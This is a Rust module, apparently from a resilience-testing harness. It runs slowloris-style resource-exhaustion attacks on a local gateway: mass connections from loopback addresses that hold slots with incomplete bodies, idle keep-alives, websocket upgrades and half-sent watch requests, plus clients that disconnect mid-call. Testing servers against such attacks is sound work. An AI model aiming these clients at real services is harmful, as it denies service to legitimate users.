//! Clients that exhaust resources which healthy clients need: many connections, from a single
//! address or from many, that hold connection slots and buffered bytes without making progress; and
//! clients that disconnect in the middle of a call.

use std::io;
use std::net::Ipv4Addr;
use std::time::Duration;

use bytes::Bytes;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;

use super::ground::Ground;
use crate::attack::http2::connection::dial_from;
use crate::attack::http2::session::{Http2Session, send_body};
use crate::attack::http2::{frame, requests};

/// Source addresses of the attackers. All healthy clients use 127.0.0.1.
const FIRST: Ipv4Addr = Ipv4Addr::new(127, 0, 1, 1);
const BODY_BYTES: usize = 1 << 20;
/// Pause between two requests of a connection that is kept.
const POLL_INTERVAL: Duration = Duration::from_secs(8);
/// Delay before a closed connection is opened again.
const REST: Duration = Duration::from_secs(1);

/// Opens 1,000 connections from a single address.
pub async fn of_one_address(ground: Ground) {
    ground.keep_numbered(1_000, |ground, number| hoard(ground, number, FIRST)).await;
}

/// Opens 10 connections from each of 100 addresses.
pub async fn of_many_addresses(ground: Ground) {
    let source = |number: u8| Ipv4Addr::from_bits(FIRST.to_bits() + u32::from(number));
    ground
        .keep_numbered(1_000, move |ground, number| hoard(ground, number, source((number % 100) as u8)))
        .await;
}

/// Holds a connection; its number selects the resource that it hoards.
async fn hoard(ground: Ground, number: usize, source: Ipv4Addr) -> io::Result<()> {
    let outcome = async {
        let stream = dial_from(ground.client_port(), source).await?;
        ground.ledger.add_acts(1);
        match number / 100 % 5 {
            0 => incomplete_body(stream).await,
            1 => incomplete_object(stream).await,
            2 => kept_alive(stream).await,
            3 => websocket(stream).await,
            _ => no_request(stream).await,
        }
    };
    let outcome = outcome.await;
    tokio::time::sleep(REST).await;
    outcome
}

async fn incomplete_body(stream: TcpStream) -> io::Result<()> {
    let mut session = Http2Session::over(stream).await?;
    let (answer, mut body) = session.call(requests::PUT).await?;
    let mut bytes = frame::message_head(BODY_BYTES + 1);
    bytes.resize(BODY_BYTES, 0);
    send_body(&mut body, Bytes::from(bytes), false).await?;
    // The server rejected the request.
    drop(answer.await);
    Err(io::ErrorKind::ConnectionReset.into())
}

async fn incomplete_object(mut stream: TcpStream) -> io::Result<()> {
    let head = format!(
        "POST /v3/kv/put HTTP/1.1\r\nHost: localhost\r\nContent-Length: {}\r\n\r\n{{\"key\":\"",
        2 * BODY_BYTES
    );
    stream.write_all(head.as_bytes()).await?;
    stream.write_all(&vec![b'A'; BODY_BYTES]).await?;
    until_closed(&mut stream).await
}

async fn kept_alive(mut stream: TcpStream) -> io::Result<()> {
    loop {
        stream.write_all(b"GET /version HTTP/1.1\r\nHost: localhost\r\n\r\n").await?;
        if let Ok(closed) = tokio::time::timeout(POLL_INTERVAL, until_closed(&mut stream)).await {
            return closed;
        }
    }
}

async fn websocket(mut stream: TcpStream) -> io::Result<()> {
    let head = "GET /v3/watch HTTP/1.1\r\nHost: localhost\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\
                Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n";
    stream.write_all(head.as_bytes()).await?;
    until_closed(&mut stream).await
}

/// Opens a watch stream without a create request.
async fn no_request(mut stream: TcpStream) -> io::Result<()> {
    stream.write_all(WATCH).await?;
    until_closed(&mut stream).await
}

const WATCH: &[u8] = b"POST /v3/watch HTTP/1.1\r\nHost: localhost\r\nContent-Length: 100\r\n\r\n";

/// More than the gateway has slots.
const DEAD_WATCHES: usize = 400;
/// Long enough for the watches to be accepted and started.
const EXIT_DELAY: Duration = Duration::from_millis(500);

/// Opens watches on clients that disconnect before the request is complete.
pub async fn dead_watches(ground: Ground) {
    ground.keep(DEAD_WATCHES, dead_watch).await;
}

async fn dead_watch(ground: Ground) -> io::Result<()> {
    let mut stream = dial_from(ground.client_port(), FIRST).await?;
    stream.write_all(WATCH).await?;
    ground.ledger.add_acts(1);
    tokio::time::sleep(EXIT_DELAY).await;
    Ok(())
}

/// Reads until the server closes the connection.
async fn until_closed(stream: &mut TcpStream) -> io::Result<()> {
    let mut bytes = [0; 512];
    while stream.read(&mut bytes).await? > 0 {}
    Err(io::ErrorKind::ConnectionReset.into())
}
